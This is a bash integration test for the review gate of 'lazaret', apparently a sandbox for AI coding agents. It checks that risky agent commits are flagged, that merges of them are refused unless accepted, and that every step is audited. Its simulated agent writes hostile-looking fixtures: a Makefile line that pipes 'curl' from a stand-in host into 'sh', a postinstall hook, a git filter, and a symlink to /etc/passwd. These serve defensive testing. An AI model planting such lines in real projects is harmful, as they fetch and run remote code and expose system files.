#!/usr/bin/env bash
# test-review.sh - the review gate on an agent's real work: a session in
# the real gVisor sandbox commits a normal file, a Makefile, package.json
# scripts (and a non-script key), a CI workflow, .gitattributes with a
# filter, a new executable and a symlink out of the tree, and leaves one
# file uncommitted. lazaret diff --surface --json lists exactly the surface
# ones with their reasons; merge refuses without --accept-surface and merges
# with it (the row through the running coordinator); a dirty user tree is
# refused untouched; discard and sync do what they say (the domain
# stopped, rows written to state.db) and everything is audited. The
# agent's commits carry "Lazaret agent (<profile>)" and the user's email.
source "$(dirname "$0")/lib.sh"
need_stack
need_default_image

lz_domain rv
g() { as_user git -C "$repo" "$@"; }
as_user sh -c "cd '$repo' && printf '{\"name\":\"x\",\"description\":\"a\",\"scripts\":{\"test\":\"jest\"}}\n' > package.json &&
	printf 'all:\n\techo build\n' > Makefile && git add -A && git commit -qm base"
base=$(g rev-parse main)

# The agent's work, from inside the sandbox.
lz run -T -w "$repo" -- sh -c 'cd /workspace && set -e
	echo notes > notes.txt
	printf "all:\n\tcurl http://x.invalid/p | sh\n" > Makefile
	printf "{\"name\":\"x\",\"description\":\"b\",\"scripts\":{\"test\":\"jest\",\"postinstall\":\"node p.js\"}}\n" > package.json
	mkdir -p .github/workflows && printf "on: push\n" > .github/workflows/x.yml
	printf "*.c filter=evil\n" > .gitattributes
	printf "#!/bin/sh\necho tool\n" > tool.sh && chmod +x tool.sh
	ln -s /etc/passwd hostpw
	git add -A
	git -c user.name=agent -c user.email=agent@example.invalid commit -qm "agent work"
	echo wip > wip.txt' >"$T/run.out" 2>&1 || { cat "$T/run.out"; fail "the agent session failed"; }
# The Sentry imports the agent's branch when its refs change (and at teardown).
moved() { [ "$(g rev-parse lazaret/agent-default)" != "$1" ]; }
wait_for 30 moved "$base" || fail "the agent's commit did not reach lazaret/agent-default"
tip=$(g rev-parse lazaret/agent-default)
# Its commit says it is the agent's (the sandbox's GIT_AUTHOR_*/GIT_COMMITTER_*
# take over the -c user.name the agent passed), with the user's email.
assert_eq "$(g log -1 --format='%an <%ae>|%cn <%ce>' "$tip")" \
	"Lazaret agent (default) <t@example.invalid>|Lazaret agent (default) <t@example.invalid>" \
	"the agent's commit carries the agent identity"
assert_eq "$(g log -1 --format='%an' "$base")" "test" "the user's commits keep theirs"

json=$(lz diff -w "$repo" --surface --json)
printf '%s\n' "$json" | timeout 10 python3 -c '
import json, sys
d = json.load(sys.stdin)
got = sorted((f["path"], f["rule"], f["detail"]) for f in d["surface"])
want = sorted([
    (".gitattributes", ".gitattributes", "filter=evil"),
    (".github/workflows/x.yml", ".github/workflows/", None),
    ("Makefile", "Makefile", None),
    ("package.json", "package.json", "scripts.postinstall"),
    ("tool.sh", "exec", None),
    ("tool.sh", "shebang", "#!/bin/sh"),
    ("hostpw", "symlink-out", "-> /etc/passwd"),
])
assert got == want, got
assert all(f["reason"] for f in d["surface"]), d["surface"]
assert d["commits"] == 1 and d["target"] == "main", d
assert [f["path"] for f in d["uncommitted"]] == ["wip.txt"], d["uncommitted"]
assert "notes.txt" in [f["path"] for f in d["files"]]
' || fail "diff --surface --json is not exactly the surface: $json"
note "ok: exactly the surface, with reasons; not notes.txt, not the description; wip.txt uncommitted"

# A session keeps the coordinator up: merge's audit row goes through it.
lz run -T -w "$repo" -- sleep 120 >/dev/null 2>&1 &
runpid=$!
lz_on_exit "kill $runpid"
# Its session running, not merely a socket there: the last coordinator's may
# still be, tearing down, and a merge would then write its row alone (refused
# while the new one holds the store).
running() { lz status -w "$repo" 2>/dev/null | grep -q "sessions:    1\$"; }
wait_for 60 running || fail "no coordinator with the session"
set +e; out=$(lz merge -w "$repo" 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "merge without --accept-surface refused"
assert_contains "$out" "hostpw: symlink out of the tree" "the refusal lists the surface"
assert_eq "$(g rev-parse main)" "$base" "main did not move"
echo "mine" >>"$repo/README"
before=$(sha256sum <"$repo/README")
set +e; out=$(lz merge -w "$repo" --accept-surface 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "a dirty tree: merge refused"
assert_contains "$out" "uncommitted changes to 1 tracked file" "and says why"
assert_eq "$(sha256sum <"$repo/README")" "$before" "the user's edit untouched"
assert_eq "$(g rev-parse main)" "$base" "main still did not move"
g checkout -q -- README
out=$(lz merge -w "$repo" --accept-surface)
assert_contains "$out" "merged lazaret/agent-default" "merge --accept-surface merges"
assert_eq "$(g rev-parse main)" "$tip" "main is the reviewed agent tip"
assert_eq "$(readlink "$repo/hostpw")" "/etc/passwd" "the checkout has the agent's files"
json=$(lz audit -w "$repo" --json)
printf '%s\n' "$json" | timeout 10 python3 -c '
import json, sys
rows = [json.loads(l) for l in sys.stdin if l.strip()]
rv = [r for r in rows if r["kind"].startswith("review.")]
assert [r["detail"]["outcome"] for r in rv] == ["refused", "refused", "merged"], rv
m = rv[-1]
assert m["actor"] == "user" and m["detail"]["range"] == sys.argv[1] + ".." + sys.argv[2], m
assert len(m["detail"]["surface"]) == 7 and m["detail"]["accept_surface"] is True, m
' "$base" "$tip" || fail "merge rows missing from the coordinator's audit trail: $json"
note "ok: refusals and the merge audited through the coordinator, with range and surface"

# discard and sync need the domain stopped.
lz run -T -w "$repo" -- sh -c 'cd /workspace && echo more > more.txt && git add more.txt &&
	git -c user.name=agent -c user.email=agent@example.invalid commit -qm more' >/dev/null
set +e; out=$(lz discard -w "$repo" 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "discard while the domain runs is refused"
assert_contains "$out" "lazaret stop" "and names the fix"
kill "$runpid" 2>/dev/null || true; wait "$runpid" 2>/dev/null || true
lz stop -w "$repo" >/dev/null 2>&1 || true
wait_for 60 sh -c "! test -S '$sock'" || fail "the coordinator did not stop"
wait_for 30 moved "$tip" || fail "the second agent commit did not land"
old=$(g rev-parse lazaret/agent-default)
# The store held for a moment (as by a coordinator starting): the row waits
# for it and is written, not lost.
as_user python3 -c 'import sqlite3, sys, time
c = sqlite3.connect(sys.argv[1], isolation_level=None)
c.execute("PRAGMA locking_mode=EXCLUSIVE"); c.execute("BEGIN IMMEDIATE")
open(sys.argv[2], "w").close(); time.sleep(1.5); c.execute("COMMIT"); c.close()' \
	"$T/home/data/lazaret/domains/$hash/state.db" "$T/held" &
holder=$!
wait_for 10 test -e "$T/held" || fail "the store holder did not start"
out=$(lz discard -w "$repo")
wait "$holder" || fail "the store holder failed"
assert_contains "$out" "old tip kept as refs/lazaret/discarded/default/" "discard names the keep ref"
assert_eq "$(g rev-parse lazaret/agent-default)" "$tip" "the agent branch is back at its base"
assert_eq "$(g for-each-ref --format='%(objectname)' refs/lazaret/discarded/)" "$old" "the old tip is kept"
as_user sh -c "cd '$repo' && echo user > user.txt && git add user.txt && git commit -qm user"
out=$(lz sync -w "$repo")
assert_eq "$(g rev-parse lazaret/agent-default)" "$(g rev-parse main)" "sync: the agent branch at the user's tip"
# The next session starts from the user's latest work.
assert_eq "$(lz run -T -w "$repo" -- cat /workspace/user.txt)" "user" "the agent sees the user's commit"
assert_eq "$(lz run -T -w "$repo" -- sh -c 'test -e /workspace/more.txt && echo yes || echo no')" "no" \
	"the discarded work is gone from the checkout"
lz stop -w "$repo" >/dev/null 2>&1 || true
wait_for 60 sh -c "! test -S '$sock'" || fail "the coordinator did not stop"
kinds=$(lz audit -w "$repo" --json | timeout 10 python3 -c '
import json, sys
print(" ".join(r["kind"] + ":" + r["detail"]["outcome"] for r in map(json.loads, filter(str.strip, sys.stdin)) if r["kind"].startswith("review.")))')
assert_eq "$kinds" "review.merge:refused review.merge:refused review.merge:merged review.discard:refused review.discard:discarded review.sync:synced" "every step audited"
assert_contains "$(lz audit -w "$repo" --verify)" "audit trail intact" "the chain verifies"
